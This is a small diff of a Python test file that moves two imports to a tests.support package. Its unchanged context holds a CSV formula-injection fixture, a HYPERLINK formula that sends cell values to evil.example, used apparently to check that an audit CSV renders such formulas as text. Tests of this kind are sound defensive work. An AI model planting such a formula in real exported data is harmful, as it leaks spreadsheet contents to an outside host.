@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 import eosfix
-from tests.cachebuilder import CacheBuilder
+from tests.support.cachebuilder import CacheBuilder
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A3&C3,"Fix here")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -114,7 +114,7 @@ def test_the_pages_audit_csv_shows_a_formula_token_as_text(fake_hub, tmp_path):
     import time
 
     from eosfix.serve.config import ServeConfig
-    from tests.serve.pagekit import Page
+    from tests.support.service import Page
 
     fake_hub.add_repo("org/formula", formula_repo())
     config = ServeConfig(secret="s", state_dir=tmp_path / "state", page_rate=1000)
